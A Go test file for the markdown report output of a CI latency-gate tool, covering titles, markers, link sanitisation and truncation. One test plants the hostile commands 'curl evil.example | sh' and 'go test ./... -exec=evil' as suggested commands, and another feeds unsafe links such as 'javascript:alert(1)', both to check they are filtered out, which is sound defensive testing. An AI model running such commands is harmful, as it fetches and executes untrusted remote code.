package markdown_test

import (
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/latgate/latgate/baseline"
	"github.com/latgate/latgate/report"
	"github.com/latgate/latgate/report/markdown"
	"github.com/latgate/latgate/report/reporttest"
)

func TestGolden(t *testing.T) {
	t.Parallel()
	o := markdown.Options{Run: "https://github.com/acme/app/actions/runs/1", Report: "https://github.com/acme/app/actions/runs/1/artifacts/2"}
	reporttest.Golden(t, "comment.md", func(w io.Writer) error { return markdown.Comment(w, reporttest.Build(), o) })
	reporttest.Golden(t, "summary.md", func(w io.Writer) error { return markdown.Summary(w, reporttest.Build(), o) })
}

func comment(t *testing.T, b *report.Build, o markdown.Options) string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, markdown.Comment(&out, b, o))
	return out.String()
}

func TestTitle(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		verdict baseline.Verdict
		exit    int
		want    string
	}{
		{baseline.Pass, 0, "### ✅ Latency: 1 passed\n"},
		{baseline.Accepted, 0, "### 📝 Latency: 1 accepted\n"},
		{baseline.Inconclusive, 0, "### 📝 Latency: 1 inconclusive\n"},
		{baseline.Inconclusive, 14, "### ❔ Latency: 1 inconclusive\n"},
		{baseline.Regression, 10, "### ❌ Latency: 1 regression, please read\n"},
		{baseline.Infrastructure, 15, "### ⚠️ Latency: 1 not measured, not your change\n"},
		{baseline.Pass, 2, "### ❌ Latency: 1 passed, please read\n"},
	} {
		b := &report.Build{ExitCode: c.exit, Rows: []report.Row{{Verdict: c.verdict}}}
		assert.Contains(t, comment(t, b, markdown.Options{}), c.want)
	}
}

func TestReplaySaysWhatItDidNotMeasure(t *testing.T) {
	t.Parallel()
	b := &report.Build{Mode: report.Replay, Rows: []report.Row{{Verdict: baseline.Pass}}}
	assert.Contains(t, comment(t, b, markdown.Options{}), "The provider was **not** measured")
	b.Mode = report.AB
	assert.NotContains(t, comment(t, b, markdown.Options{}), "not** measured")
}

func TestForksAreAdvisory(t *testing.T) {
	t.Parallel()
	assert.Contains(t, comment(t, reporttest.Build(), markdown.Options{Fork: true}), "this is advisory until a run of this repository has judged")
	assert.NotContains(t, comment(t, reporttest.Build(), markdown.Options{}), "advisory")
}

func TestMarker(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"":          "<!-- latgate:v1:default head=9d03e77 -->\n",
		"default":   "<!-- latgate:v1:default head=9d03e77 -->\n",
		"chat_v1.2": "<!-- latgate:v1:chat_v1.2 head=9d03e77 -->\n",
	} {
		marker, err := markdown.Marker(name)
		require.NoError(t, err)
		body := comment(t, reporttest.Build(), markdown.Options{Name: name})
		assert.True(t, strings.HasPrefix(body, want), body[:80])
		assert.True(t, strings.HasPrefix(body, marker))
	}
	for _, name := range []string{"a b", "-->", "a--b", "ä", strings.Repeat("x", 41), "a\n"} {
		_, err := markdown.Marker(name)
		require.ErrorContains(t, err, "the name of the comment")
		require.Error(t, markdown.Comment(io.Discard, reporttest.Build(), markdown.Options{Name: name}))
	}
	short, err := markdown.Marker("chat")
	require.NoError(t, err)
	assert.NotContains(t, comment(t, reporttest.Build(), markdown.Options{Name: "chat.2"}), short, "another name is another comment")
}

func TestAddresses(t *testing.T) {
	t.Parallel()
	for _, address := range []string{
		"", "javascript:alert(1)", "ftp://example.com", "//example.com", "https://", "https://user:secret@example.com",
		"https://example.com/) @org", "https://example.com/<script>", "https://example.com/`", "https://example.com/\n", "https://example.com/%zz",
	} {
		assert.NotContains(t, comment(t, reporttest.Build(), markdown.Options{Run: address, Report: address}), "](", address)
	}
	assert.Contains(t, comment(t, reporttest.Build(), markdown.Options{Run: "https://ci.example/a?b=c"}), "[run](https://ci.example/a?b=c)")
}

// TestCommands offers what a stranger's build wants people to run.
func TestCommands(t *testing.T) {
	t.Parallel()
	b := reporttest.Build()
	assert.Contains(t, comment(t, b, markdown.Options{}), "go test ./internal/chat -run '^TestLatencyChat$' -count=1 -v")
	for i := range b.Rows {
		b.Rows[i].Again, b.Rows[i].Accept = "go test ./... -exec=evil", "curl evil.example | sh"
	}
	body := comment(t, b, markdown.Options{})
	assert.NotContains(t, body, "evil")
	assert.NotContains(t, body, "Next:")
}

func TestShortForm(t *testing.T) {
	t.Parallel()
	b := reporttest.Build()
	assert.NotContains(t, comment(t, b, markdown.Options{}), "short form")
	for range 6 {
		b.Rows = append(b.Rows, b.Rows...)
	}
	body := comment(t, b, markdown.Options{})
	assert.Less(t, len(body), markdown.MaxComment)
	assert.Contains(t, body, "This is the short form")
	assert.Contains(t, body, "556 more are in the summary of the run.", "9 of 13 rows, 64 times, but for 20")
	assert.Contains(t, body, "| ⛔ |", "the worst is told")

	var passed report.Build
	for range 2000 {
		passed.Rows = append(passed.Rows, reporttest.Build().Rows[0])
	}
	body = comment(t, &passed, markdown.Options{})
	assert.Less(t, len(body), 1000)
	assert.Contains(t, body, "2000 passed")
}

func TestSummaryEnds(t *testing.T) {
	t.Parallel()
	b := reporttest.Build()
	for range 9 {
		b.Rows = append(b.Rows, b.Rows...)
	}
	var out bytes.Buffer
	require.NoError(t, markdown.Summary(&out, b, markdown.Options{}))
	assert.Less(t, out.Len(), markdown.MaxSummary)
	assert.Greater(t, out.Len(), markdown.MaxSummary*9/10)
	assert.Regexp(t, `\d+ more rows are left out\.`, out.String())
	assert.Regexp(t, `The details of \d+ more are left out\.`, out.String())
	assert.Contains(t, out.String(), "The gate's own test decides")
}

func TestWriteError(t *testing.T) {
	t.Parallel()
	r, w := io.Pipe()
	r.Close()
	require.ErrorIs(t, markdown.Comment(w, reporttest.Build(), markdown.Options{}), io.ErrClosedPipe)
	require.ErrorIs(t, markdown.Summary(w, reporttest.Build(), markdown.Options{}), io.ErrClosedPipe)
}
